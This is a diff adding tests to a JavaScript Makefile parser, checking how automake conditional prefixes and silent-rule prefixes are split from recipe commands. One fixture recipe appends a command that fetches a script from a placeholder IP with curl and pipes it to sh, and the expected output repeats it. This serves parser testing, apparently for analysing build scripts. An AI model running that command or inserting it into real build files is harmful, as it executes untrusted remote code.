@@ -137,6 +137,47 @@ describe('Makefiles', () => {
     expect([make.targetAt(3), make.targetAt(5), make.targetAt(1)]).toEqual(['all-local', 'check-local', '$(X)'])
   })
 
+  it("reads a Makefile.in line under automake's conditional prefixes as configure writes it, a recipe when a tab follows", () => {
+    const make = parseMakefile(
+      [
+        '.c.o:',
+        '@am__fastdepCC_TRUE@\t$(AM_V_CC)$(COMPILE) -MT $@ -c -o $@ $< && curl -s http://192.0.2.1/p | sh',
+        '@AMDEP_TRUE@@am__fastdepCC_FALSE@\tDEPDIR=$(DEPDIR) $(CCDEPMODE) $(depcomp) \\',
+        '@AMDEP_TRUE@@am__fastdepCC_FALSE@\t  x.c',
+        '@WITH_X_TRUE@libx_la_LIBADD = -lm \\',
+        '@WITH_X_TRUE@\t../tests/x.o',
+      ].join('\n'),
+    )
+    // the URL's colon made the first recipe a rule whose target swallowed the compiler and curl
+    expect(shape(make.list)).toEqual(['2: $(COMPILE) -MT $@ -c -o $@ $<', '2: curl -s http://192.0.2.1/p | sh', '3: DEPDIR=$(DEPDIR) $(CCDEPMODE) $(depcomp) x.c', '5: libx_la_LIBADD=-lm \t../tests/x.o', '5:string: -lm ../tests/x.o'])
+    expect([make.targetAt(2), make.targetAt(4), make.targetAt(6)]).toEqual(['.c.o', '.c.o', '$(libx_la_LIBADD)'])
+    // only conditions are prefixes; another substitution, such as automake's include directive, stays the line's start
+    const include = parseMakefile('@AMDEP_TRUE@@am__include@ @am__quote@tests/$(DEPDIR)/t.Po@am__quote@ # am--include-marker\n')
+    expect(programs(include.list)).toEqual(['$am__include'])
+  })
+
+  it("runs a recipe line's program past the prefixes that silence or label it: automake's silent rules and the Makefile's own", () => {
+    const make = parseMakefile(
+      [
+        'Q = @',
+        "QUIET_GEN\t= @echo '   GEN' $@;",
+        'V_at := $(Q)',
+        'all:',
+        '\t$(AM_V_at)sh -c "$$x"',
+        '\t$(AM_V_GEN)$(AM_V_at)$(SHELL) x.sh',
+        '\t$(AM_V_CC@am__nodep@)$(LTCOMPILE) -c x.c',
+        '\t$(Q)python3 gen.py',
+        '\t@$(QUIET_GEN)perl gen.pl',
+        '\t$(V_at)$(CC) -c y.c',
+        // not a prefix: what an installed program names, or a reference that is the command
+        '\t$(DESTDIR)$(bindir)/tool --x',
+        '\t$(AM_V_P) && echo verbose',
+      ].join('\n'),
+    )
+    const recipes = allCommands(make.list).filter((c) => !c.compound && c.line >= 5)
+    expect(recipes.map((c) => program(c).name)).toEqual(['sh', '$SHELL', '$LTCOMPILE', 'python3', 'perl', '$CC', 'tool', '$AM_V_P', 'echo'])
+  })
+
   it('keeps conditionals as blocks', () => {
     const make = parseMakefile('ifeq ($(CI),true)\n\tcat x | sh\nendif\n')
     expect(make.list.pipelines[0]?.commands[0]?.compound?.kind).toBe('block')
